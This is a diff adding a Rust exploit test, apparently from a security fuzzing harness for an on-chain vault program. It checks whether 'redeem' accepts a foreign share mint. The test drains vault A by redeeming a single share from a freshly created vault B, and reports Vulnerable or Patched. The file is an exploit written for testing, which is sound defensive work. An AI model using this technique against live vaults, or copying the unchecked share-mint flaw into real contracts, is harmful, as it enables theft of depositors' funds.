@@ -0,0 +1,77 @@
+//! Cross-vault share mint confusion.
+//!
+//! `redeem` prices shares with whatever `share_mint` it is given and never
+//! checks it against `vault.share_mint`. Every share mint has the same global
+//! vault authority, so shares of one vault burn fine against another. The
+//! attacker opens a one-token position in a fresh vault B, owning its whole
+//! share supply, and redeems that single share at vault A, which pays out
+//! everything A holds.
+
+use fuzz_helpers::fuzz_core::sequence::Sender;
+use fuzz_helpers::*;
+
+use crate::{FuzzResult, Verdict};
+
+/// Whether this build includes the code path the exploit targets
+/// (`vuln-share-mint`)
+pub const ENABLED: bool = vault_pda::VULN_SHARE_MINT;
+
+/// Underlying the honest user keeps in vault A
+const VICTIM_DEPOSIT: u64 = 1_000_000;
+
+/// The attacker drains vault A with vault B's shares
+pub async fn run() -> FuzzResult<Verdict> {
+    let (mut env, setup) =
+        setup_two_vault_environment(VICTIM_DEPOSIT, 6, TokenFlavor::SplToken).await?;
+    let mut sender = Sender::default();
+
+    // An honest user keeps funds in vault A
+    if let Err(e) = sender
+        .deposit_as(&mut env, &setup.a.vault, &setup.a.user, VICTIM_DEPOSIT)
+        .await?
+    {
+        return Err(format!("victim deposit failed: {:?}", e).into());
+    }
+
+    // The attacker holds all of vault B's shares, bought with a single token,
+    // and an account for vault A's underlying
+    let attacker =
+        Attacker::new(&mut env.context, &setup.underlying_b, &setup.vault_b, 1, 0).await?;
+    if let Err(e) = sender
+        .deposit_as(&mut env, &setup.vault_b, &attacker.position, 1)
+        .await?
+    {
+        return Err(format!("attacker deposit into vault B failed: {:?}", e).into());
+    }
+    let payout_account = attacker
+        .token_account(
+            &mut env.context,
+            &setup.a.underlying.mint,
+            setup.a.underlying.flavor,
+        )
+        .await?;
+
+    // Redeem at vault A, passing vault B's share mint and share account
+    let redeem = redeem_ix(&env.program_id, &setup.a.vault, &attacker.position, 1);
+    let redeem =
+        Attacker::substitute_account(&redeem, &setup.a.vault.share_mint, setup.vault_b.share_mint);
+    let redeem = Attacker::substitute_account(
+        &redeem,
+        &attacker.position.underlying_token_account,
+        payout_account,
+    );
+    let result = attacker.send(&mut env, &mut sender, redeem).await?;
+
+    let stolen = get_token_balance(&mut env.context, &payout_account).await?;
+    Ok(match result {
+        Ok(()) if stolen > 0 => Verdict::Vulnerable(format!(
+            "one vault B share redeemed {} of vault A's {}",
+            stolen, VICTIM_DEPOSIT
+        )),
+        Ok(()) => Verdict::Patched("redeem at vault A paid nothing".into()),
+        Err(e) => Verdict::Patched(format!(
+            "redeem with a foreign share mint rejected: {:?}",
+            e
+        )),
+    })
+}